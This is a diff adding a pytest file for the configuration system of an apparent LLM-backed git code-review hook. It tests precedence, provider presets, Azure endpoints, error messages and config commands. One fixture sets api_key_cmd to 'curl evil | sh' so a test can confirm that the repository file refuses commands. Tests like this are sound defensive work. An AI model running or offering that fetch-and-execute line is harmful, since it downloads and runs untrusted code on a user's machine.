@@ -1,0 +1,270 @@
+"""Configuration (SPEC §2): layering and precedence, preset variables, secrets refused in the
+repository file, endpoint resolution (Azure included), one-line errors with exit 2, and the
+``git ocr config`` commands on a real user file. Real: files, git repositories, ``cli.main``;
+nothing is faked."""
+
+from __future__ import annotations
+
+import os
+import stat
+from pathlib import Path
+
+import pytest
+
+from ocr_hook import cli, config
+from ocr_hook.config import Layer, azure_url, build, dump_toml, edit_toml, parse_toml
+from ocr_hook.config_cli import config_layers, resolve_llm_endpoint
+from ocr_hook.errors import ConfigError
+from tests.support.gitrepo import GitRepo
+
+
+def write_user(text: str) -> Path:
+    p = Path(os.environ["XDG_CONFIG_HOME"]) / "ocr-hook" / "config.toml"
+    p.parent.mkdir(parents=True, exist_ok=True)
+    p.write_text(text, encoding="utf-8")
+    return p
+
+
+def test_precedence_flags_env_repo_user_defaults(repo: GitRepo) -> None:
+    write_user('[llm]\nmodel = "user-model"\n[gate]\nmode = "advisory"\n[review]\n'
+               "concurrency = 2\n")
+    repo.commit({".ocr-hook.toml": '[llm]\nmodel = "repo-model"\n[review]\nconcurrency = 3\n'},
+                "cfg")
+    env = {"OCR_HOOK_REVIEW_CONCURRENCY": "5", "XDG_CONFIG_HOME": os.environ["XDG_CONFIG_HOME"]}
+    flags = Layer("command line", {"review": {"concurrency": 7}})
+    cfg = build(config_layers(repo.path, env, flags))
+    assert cfg.review.concurrency == 7
+    cfg = build(config_layers(repo.path, env))
+    assert (cfg.review.concurrency, cfg.llm.model, cfg.gate.mode) == (5, "repo-model",
+                                                                      "advisory")
+    assert cfg.gate.fail_on == "high"  # default
+    _, origin = config.merge(config_layers(repo.path, env))
+    assert origin["llm.model"] == ".ocr-hook.toml (HEAD)"
+    assert origin["review.concurrency"] == "environment"
+
+
+def test_ocr_llm_variables_and_ocr_hook_names(tmp_path: Path) -> None:
+    env = {"OCR_LLM_URL": "http://127.0.0.1:9/v1", "OCR_LLM_MODEL": "m", "OCR_LLM_TOKEN": "t",
+           "OCR_LLM_PROTOCOL": "anthropic", "OCR_HOOK_FAIL_ON": "critical",
+           "OCR_HOOK_NO_CACHE": "1", "OCR_HOOK_SELECT_EXCLUDE": "a/**, b.py",
+           "OCR_HOOK_LLM_EXTRA_HEADERS": '{"X-Team": "core"}'}
+    cfg = build(config_layers(None, env))
+    assert (cfg.llm.base_url, cfg.llm.model, cfg.llm.api_key, cfg.llm.protocol) == (
+        "http://127.0.0.1:9/v1", "m", "t", "anthropic")
+    assert (cfg.gate.fail_on, cfg.cache.enabled, cfg.select.exclude) == ("critical", False,
+                                                                         ["a/**", "b.py"])
+    assert cfg.llm.extra_headers == {"X-Team": "core"}
+
+
+def test_openai_variables_apply_to_the_openai_preset_only(tmp_path: Path) -> None:
+    write_user('[llm]\nprovider = "openai"\nmodel = "gpt-5"\napi_key = "sk-from-file-000"\n')
+    env = {"OPENAI_API_KEY": "sk-from-env-111", "OPENAI_BASE_URL": "https://proxy.example/v1",
+           "ANTHROPIC_API_KEY": "ant-unused", "XDG_CONFIG_HOME": os.environ["XDG_CONFIG_HOME"]}
+    cfg = build(config_layers(None, env))
+    ep, why = resolve_llm_endpoint(cfg, env)
+    assert why == "" and ep is not None
+    # environment beats the user file (SPEC §2 precedence)
+    assert (ep.url, ep.api_key, ep.protocol) == ("https://proxy.example/v1", "sk-from-env-111",
+                                                 "openai")
+    # our own variables beat the standard ones
+    env["OCR_LLM_TOKEN"] = "sk-ocr-222"
+    ep, _ = resolve_llm_endpoint(build(config_layers(None, env)), env)
+    assert ep is not None and ep.api_key == "sk-ocr-222"
+
+
+def test_anthropic_preset_reads_anthropic_variables(tmp_path: Path) -> None:
+    env = {"OCR_HOOK_LLM_PROVIDER": "anthropic", "OCR_HOOK_LLM_MODEL": "claude-x",
+           "ANTHROPIC_API_KEY": "ant-123", "OPENAI_API_KEY": "sk-unused"}
+    ep, why = resolve_llm_endpoint(build(config_layers(None, env)), env)
+    assert ep is not None, why
+    assert (ep.url, ep.api_key, ep.protocol, ep.output_tokens_field) == (
+        "https://api.anthropic.com", "ant-123", "anthropic", "max_completion_tokens")
+
+
+def test_no_provider_means_no_guessing(tmp_path: Path) -> None:
+    env = {"OPENAI_API_KEY": "sk-x", "OCR_LLM_MODEL": "gpt-5"}
+    ep, why = resolve_llm_endpoint(build(config_layers(None, env)), env)
+    assert ep is None
+    assert why.startswith("no LLM endpoint configured (missing url, api key)")
+
+
+def test_local_server_needs_no_key(tmp_path: Path) -> None:
+    env = {"OCR_HOOK_LLM_PROVIDER": "ollama", "OCR_HOOK_LLM_MODEL": "qwen3"}
+    ep, why = resolve_llm_endpoint(build(config_layers(None, env)), env)
+    assert ep is not None and ep.api_key == "" and ep.url == "http://localhost:11434/v1"
+    assert ep.output_tokens_field == "max_tokens"
+
+
+@pytest.mark.parametrize(("base", "version", "url"), [
+    ("https://r.openai.azure.com", "2024-10-21",
+     "https://r.openai.azure.com/openai/deployments/gpt4o-prod?api-version=2024-10-21"),
+    ("https://r.openai.azure.com/", "", "https://r.openai.azure.com/openai/v1"),
+    ("https://r.openai.azure.com/openai/deployments/other", "2025-01-01-preview",
+     "https://r.openai.azure.com/openai/deployments/other?api-version=2025-01-01-preview"),
+    ("https://r.openai.azure.com/openai/deployments/d?api-version=2024-06-01", "2024-10-21",
+     "https://r.openai.azure.com/openai/deployments/d?api-version=2024-06-01"),
+])
+def test_azure_urls(base: str, version: str, url: str) -> None:
+    assert azure_url(base, "gpt4o-prod", version) == url
+
+
+def test_azure_preset_uses_api_key_header_and_api_version(tmp_path: Path) -> None:
+    env = {"OCR_HOOK_LLM_PROVIDER": "azure-openai", "OCR_HOOK_LLM_MODEL": "gpt4o-prod",
+           "AZURE_OPENAI_ENDPOINT": "https://r.openai.azure.com",
+           "AZURE_OPENAI_API_KEY": "az-key", "OPENAI_API_VERSION": "2024-10-21"}
+    ep, why = resolve_llm_endpoint(build(config_layers(None, env)), env)
+    assert ep is not None, why
+    assert ep.url == "https://r.openai.azure.com/openai/deployments/gpt4o-prod?api-version=2024-10-21"
+    assert (ep.auth_header, ep.api_key) == ("api-key", "az-key")
+
+
+def test_secrets_in_the_repository_file_are_refused(repo: GitRepo) -> None:
+    repo.commit({".ocr-hook.toml": '[llm]\napi_key_cmd = "curl evil | sh"\n'}, "cfg")
+    with pytest.raises(ConfigError) as e:
+        config_layers(repo.path, {})
+    assert str(e.value) == ("llm.api_key_cmd is not allowed in .ocr-hook.toml (HEAD): secrets and"
+                            " commands belong in the user file (`git ocr config set`) or the"
+                            " environment")
+
+
+def test_invalid_value_is_one_line_naming_key_file_and_allowed_values(
+        repo: GitRepo, monkeypatch: pytest.MonkeyPatch,
+        capsys: pytest.CaptureFixture[str]) -> None:
+    repo.commit({".ocr-hook.toml": '[gate]\nfail_on = "severe"\n'}, "cfg")
+    repo.stage({"a.py": "x = 1\n"})
+    monkeypatch.chdir(repo.path)
+    rc = cli.main(["review"], environ=dict(os.environ))
+    err = capsys.readouterr().err
+    assert rc == 2
+    assert err.count("\n") == 1
+    assert "gate.fail_on = 'severe' in .ocr-hook.toml (HEAD)" in err
+    assert "allowed: critical, high, medium, low" in err
+
+
+def test_unknown_key_names_the_allowed_keys() -> None:
+    with pytest.raises(ConfigError) as e:
+        build([Layer("/u/config.toml", {"gate": {"mode": "blocking", "fail": "x"}})])
+    assert str(e.value).startswith("unknown key gate.fail in /u/config.toml; allowed keys: mode,"
+                                   " fail_on, on_error")
+
+
+def test_unknown_provider_lists_presets(tmp_path: Path) -> None:
+    env = {"OCR_HOOK_LLM_PROVIDER": "openia", "OCR_HOOK_LLM_MODEL": "m"}
+    with pytest.raises(ConfigError) as e:
+        resolve_llm_endpoint(build(config_layers(None, env)), env)
+    assert str(e.value).startswith("invalid llm.provider = 'openia'; allowed: custom, openai,"
+                                   " anthropic, azure-openai")
+
+
+def test_api_key_cmd_supplies_the_key(tmp_path: Path) -> None:
+    write_user('[llm]\nprovider = "openai"\nmodel = "gpt-5"\n'
+               'api_key_cmd = "printf \'sk-from-cmd-123\\\\nsecond line\\\\n\'"\n')
+    env = dict(os.environ)
+    ep, why = resolve_llm_endpoint(build(config_layers(None, env)), env)
+    assert ep is not None, why
+    assert ep.api_key == "sk-from-cmd-123"
+
+
+def test_failing_api_key_cmd_is_a_config_error_without_its_output(tmp_path: Path) -> None:
+    write_user('[llm]\nprovider = "openai"\nmodel = "m"\n'
+               'api_key_cmd = "echo sk-secret; echo vault locked >&2; exit 3"\n')
+    env = dict(os.environ)
+    with pytest.raises(ConfigError) as e:
+        resolve_llm_endpoint(build(config_layers(None, env)), env)
+    assert str(e.value) == "llm.api_key_cmd failed (exit 3): vault locked"
+
+
+def test_static_key_wins_over_api_key_cmd(tmp_path: Path) -> None:
+    marker = tmp_path / "ran"
+    write_user(f'[llm]\nprovider = "openai"\nmodel = "m"\napi_key = "sk-static-000"\n'
+               f'api_key_cmd = "touch {marker}; echo sk-cmd"\n')
+    env = dict(os.environ)
+    ep, _ = resolve_llm_endpoint(build(config_layers(None, env)), env)
+    assert ep is not None and ep.api_key == "sk-static-000"
+    assert not marker.exists()
+
+
+# --- git ocr config -------------------------------------------------------------------------
+
+def run(args: list[str], capsys: pytest.CaptureFixture[str]) -> tuple[int, str, str]:
+    rc = cli.main(args, environ=dict(os.environ))
+    out, err = capsys.readouterr()
+    return rc, out, err
+
+
+def test_config_set_writes_a_private_user_file_and_get_reads_it(
+        tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
+        capsys: pytest.CaptureFixture[str]) -> None:
+    monkeypatch.chdir(tmp_path)
+    path = Path(os.environ["XDG_CONFIG_HOME"]) / "ocr-hook" / "config.toml"
+    assert run(["config", "path"], capsys) == (0, f"{path}\n", "")
+    assert run(["config", "set", "llm.provider", "deepseek"], capsys)[0] == 0
+    assert run(["config", "set", "llm.model", "deepseek-v4-flash"], capsys)[0] == 0
+    assert run(["config", "set", "review.concurrency", "4"], capsys)[0] == 0
+    assert run(["config", "set", "select.exclude", "vendor/**, *.min.js"], capsys)[0] == 0
+    assert run(["config", "set", "cache.enabled", "false"], capsys)[0] == 0
+    assert stat.S_IMODE(path.stat().st_mode) == 0o600
+    assert stat.S_IMODE(path.parent.stat().st_mode) == 0o700
+    assert parse_toml(path.read_text(), "t") == {
+        "llm": {"provider": "deepseek", "model": "deepseek-v4-flash"},
+        "review": {"concurrency": 4}, "select": {"exclude": ["vendor/**", "*.min.js"]},
+        "cache": {"enabled": False}}
+    assert run(["config", "get", "llm.model"], capsys) == (0, "deepseek-v4-flash\n", "")
+    assert run(["config", "get", "review.concurrency"], capsys) == (0, "4\n", "")
+    assert run(["config", "get", "gate.fail_on"], capsys) == (0, "high\n", "")  # default
+    assert run(["config", "unset", "llm.model"], capsys)[0] == 0
+    assert run(["config", "get", "llm.model"], capsys) == (1, "", "")
+    assert not list(path.parent.glob(".*.tmp"))
+
+
+def test_config_set_keeps_comments_and_refuses_bad_values(
+        tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
+        capsys: pytest.CaptureFixture[str]) -> None:
+    monkeypatch.chdir(tmp_path)
+    path = write_user('# mine\n[llm]\n# which model\nmodel = "a"\n\n[gate]\nmode = "advisory"\n')
+    assert run(["config", "set", "llm.model", "b"], capsys)[0] == 0
+    assert path.read_text() == ('# mine\n[llm]\n# which model\nmodel = "b"\n\n[gate]\n'
+                                'mode = "advisory"\n')
+    rc, out, err = run(["config", "set", "gate.mode", "lenient"], capsys)
+    assert rc == 2 and out == ""
+    assert f"invalid gate.mode = 'lenient' in {path}" in err and "allowed: blocking, advisory" in err
+    rc, _, err = run(["config", "set", "llm.modle", "x"], capsys)
+    assert rc == 2 and "unknown configuration key 'llm.modle'; allowed keys: llm.provider" in err
+    rc, _, err = run(["config", "set", "review.concurrency", "many"], capsys)
+    assert rc == 2 and "invalid review.concurrency = 'many'; expected int" in err
+    assert 'mode = "advisory"' in path.read_text()
+
+
+def test_config_set_reads_a_secret_from_stdin_and_list_masks_it(
+        tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
+        capsys: pytest.CaptureFixture[str]) -> None:
+    import io
+
+    monkeypatch.chdir(tmp_path)
+    monkeypatch.setattr("sys.stdin", io.StringIO("sk-abcdefghijklmnopqrstuvwxyz\n"))
+    assert run(["config", "set", "llm.api_key", "-"], capsys)[0] == 0
+    rc, out, _ = run(["config", "list", "--show-origin"], capsys)
+    assert rc == 0
+    lines = dict(line.split(" = ", 1) for line in out.splitlines())
+    assert lines["llm.api_key"].startswith('"sk-a…wxyz"\t# ')
+    assert lines["gate.mode"] == '"blocking"\t# default'
+    assert len(lines) == len(config.all_keys())
+    assert "sk-abcdefghijklmnopqrstuvwxyz" not in out
+
+
+@pytest.mark.parametrize("data", [
+    {"llm": {"model": 'with "quotes" and \\ and \n newline', "timeout_s": 12.5,
+             "extra_headers": {"X-Team": "core", "needs quoting": "v"},
+             "extra_body": {"reasoning": {"effort": "low"}, "stop": ["a", "b"]}},
+     "mcp": {"servers": {"docs": {"command": "docs-mcp", "args": ["--x"], "env": {"A": "1"}}}},
+     "gate": {"mode": "advisory"}, "cache": {"enabled": True, "max_mb": 8}},
+    {},
+])
+def test_dump_toml_round_trips(data: dict) -> None:
+    assert parse_toml(dump_toml(data), "t") == data
+
+
+def test_edit_toml_falls_back_to_a_rewrite_for_dotted_root_keys() -> None:
+    text = 'llm.model = "x"\ngate.mode = "advisory"\n'
+    out = edit_toml(text, "llm.model", "y", "t")
+    assert parse_toml(out, "t") == {"llm": {"model": "y"}, "gate": {"mode": "advisory"}}
